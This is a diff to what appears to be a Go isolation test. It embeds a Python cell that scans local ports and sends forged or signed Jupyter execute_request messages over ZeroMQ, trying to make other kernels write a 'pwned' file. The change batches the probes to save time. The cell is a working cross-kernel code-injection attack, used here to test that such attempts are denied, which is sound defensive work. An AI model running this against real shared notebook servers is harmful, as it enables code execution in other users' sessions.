@@ -91,7 +91,7 @@ print("FOUND" + json.dumps(found))
 // key, to A's own shell port, whose code creates %[2]q: the control that
 // runs, so the denials are not those of a malformed message.
 const zmqCell = `
-import json, hmac, hashlib, uuid
+import json, hmac, hashlib, time, uuid
 res = {}
 def zmq_attack():
     import zmq
@@ -107,19 +107,32 @@ def zmq_attack():
                 ports.add(p)
     code = 'pwned_by_a = 1; open(%[1]q, "w").write("pwned")'
     ctx = zmq.Context.instance()
-    replies = 0
-    for p in sorted(ports):
-        for key in (own["key"].encode(), b""):
-            s = ctx.socket(zmq.DEALER)
-            s.linger = 0
-            s.connect("tcp://127.0.0.1:%%d" %% p)
-            hdr = {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "username": "a", "session": uuid.uuid4().hex, "date": "2026-01-01T00:00:00Z", "version": "5.3"}
-            parts = [json.dumps(hdr).encode(), b"{}", b"{}", json.dumps({"code": code, "silent": False}).encode()]
-            sig = hmac.new(key, b"".join(parts), hashlib.sha256).hexdigest().encode() if key else b""
-            s.send_multipart([b"<IDS|MSG>", sig] + parts)
-            if s.poll(200):
-                replies += 1
+    # A batch of ports at a time, every message of the batch sent before
+    # one shared wait for replies: the cell's time does not grow by a wait
+    # per port, whatever else listens on this host.
+    def probe(batch):
+        poller, socks, n = zmq.Poller(), [], 0
+        for p in batch:
+            for key in (own["key"].encode(), b""):
+                s = ctx.socket(zmq.DEALER)
+                s.linger = 500
+                s.connect("tcp://127.0.0.1:%%d" %% p)
+                hdr = {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "username": "a", "session": uuid.uuid4().hex, "date": "2026-01-01T00:00:00Z", "version": "5.3"}
+                parts = [json.dumps(hdr).encode(), b"{}", b"{}", json.dumps({"code": code, "silent": False}).encode()]
+                sig = hmac.new(key, b"".join(parts), hashlib.sha256).hexdigest().encode() if key else b""
+                s.send_multipart([b"<IDS|MSG>", sig] + parts)
+                poller.register(s, zmq.POLLIN)
+                socks.append(s)
+        end = time.monotonic() + 0.5
+        while time.monotonic() < end:
+            for s, _ in poller.poll(max(1, int((end - time.monotonic()) * 1000))):
+                n += 1
+                poller.unregister(s)
+        for s in socks:
             s.close()
+        return n
+    ordered = sorted(ports)
+    replies = sum(probe(ordered[i:i + 100]) for i in range(0, len(ordered), 100))
     hdr = {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "username": "a", "session": uuid.uuid4().hex, "date": "2026-01-01T00:00:00Z", "version": "5.3"}
     parts = [json.dumps(hdr).encode(), b"{}", b"{}", json.dumps({"code": 'open(%[2]q, "w").write("self")', "silent": False}).encode()]
     s = ctx.socket(zmq.DEALER)
